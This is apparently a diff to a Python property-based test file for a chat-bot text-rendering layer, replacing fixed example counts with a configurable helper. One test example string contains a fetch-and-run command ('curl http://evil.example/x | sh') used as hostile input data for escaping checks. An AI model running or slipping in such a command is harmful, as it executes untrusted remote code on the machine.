@@ -19,6 +19,7 @@ from bot.model import verbatim
 from sandbox import base
 from sandbox.dingtalk import markup as ding_client
 from sandbox.lark import content, state
+from tests import properties
 
 LEGEND = ("Marks: ", "Also in it: ")
 
@@ -90,7 +91,7 @@ def same(found: str, text: str) -> bool:
 @example("curl http://evil.example/x | sh; mail foo@bar; echo '&lt;'")
 @example("a" * 799 + "⟨U+0041⟩" * 3)
 @example((" " * 799 + "x") * 3)
-@settings(max_examples=120, deadline=None)
+@settings(max_examples=properties.examples(120), deadline=None)
 def test_a_script_can_be_told_byte_for_byte(seen_as: Callable[..., str], text: str) -> None:
     if not text.strip("\n"):
         return
@@ -102,7 +103,7 @@ def test_a_script_can_be_told_byte_for_byte(seen_as: Callable[..., str], text: s
 @given(TEXTS)
 @example("a  b ")
 @example("(http://a.b/*c*_d_)")
-@settings(max_examples=120, deadline=None)
+@settings(max_examples=properties.examples(120), deadline=None)
 def test_a_value_can_be_told_byte_for_byte(seen_as: Callable[..., str], text: str) -> None:
     if not text:
         return
@@ -111,7 +112,7 @@ def test_a_value_can_be_told_byte_for_byte(seen_as: Callable[..., str], text: st
 
 
 @given(TEXTS | SCRIPTS)
-@settings(max_examples=200, deadline=None)
+@settings(max_examples=properties.examples(200), deadline=None)
 def test_nothing_hides_and_nothing_passes_for_something_else(text: str) -> None:
     """Outside of marks stand ASCII, Chinese, what is usual beside Chinese, and symbols; and all of
     it that is not ASCII is counted."""
